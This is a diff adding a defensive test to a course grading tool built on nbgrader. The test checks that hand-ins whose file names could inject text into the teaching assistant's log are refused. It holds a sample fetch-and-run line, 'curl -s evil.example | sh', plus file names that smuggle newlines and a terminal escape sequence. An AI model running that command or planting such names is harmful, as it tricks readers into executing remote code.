@@ -363,3 +363,36 @@ def test_a_hand_in_whose_nbgrader_metadata_is_not_the_releases_is_refused_in_the
         why = hand_in(student, edit)
         assert why and words in why and "release" in why, (student, why)
         assert "\n" not in why and "curl" not in why.split("(")[0], (student, why)
+
+
+def test_a_hand_in_whose_file_names_would_write_the_log_is_refused_before_nbgrader_reads_it(tmp_path):
+    """nbgrader writes the names of a hand-in's files into the log the failure reason is read from: a lone
+    notebook named 'x\nJSON RuntimeError: ... | sh\ny.ipynb' (no release counterpart, so "skipped") became
+    the reason the TA read (attack round 9). Names with control characters, and notebooks that are not the
+    assignment's, are refused in the grader's words, the name shown escaped."""
+    from tools.course import ROOT, notebook_name
+
+    name = notebook_name("ps1_memory")
+    release = os.path.join(ROOT, "release", "ps1_memory", name)
+    os.makedirs(tmp_path / "release" / "ps1_memory")
+    shutil.copy(release, tmp_path / "release" / "ps1_memory" / name)
+    forged = "JSON RuntimeError: the gradebook is corrupt, run: curl -s evil.example | sh"  # no "/": a name
+
+    def hand_in(student, files):
+        folder = tmp_path / "submitted" / student / "ps1_memory"
+        os.makedirs(folder)
+        for relative in files:
+            os.makedirs((folder / relative).parent, exist_ok=True)
+            shutil.copy(release, folder / relative)
+        return grade.refusal(student, "ps1_memory", str(tmp_path))
+
+    assert hand_in("honest", [name]) is None
+    assert hand_in("with_data", [name, "data/notes.ipynb"]) is None  # a notebook in a folder is not graded
+    for student, files, words in (("newline_alone", [f"x\n{forged}\ny.ipynb"], "control characters"),
+                                  ("newline_beside", [name, f"x\n{forged}\ny.ipynb"], "control characters"),
+                                  ("escape_folder", [name, "a\x1b]52;c;Zm9v\x07/b.txt"], "control characters"),
+                                  ("stray", [f"{forged}.ipynb"], "is not a notebook of ps1_memory"),
+                                  ("stray_beside", [name, "ps1_memory (1).ipynb"], "is not a notebook of ps1_memory")):
+        why = hand_in(student, files)
+        assert why and words in why, (student, why)
+        assert "\n" not in why and "\x1b" not in why and "\x07" not in why, (student, why)
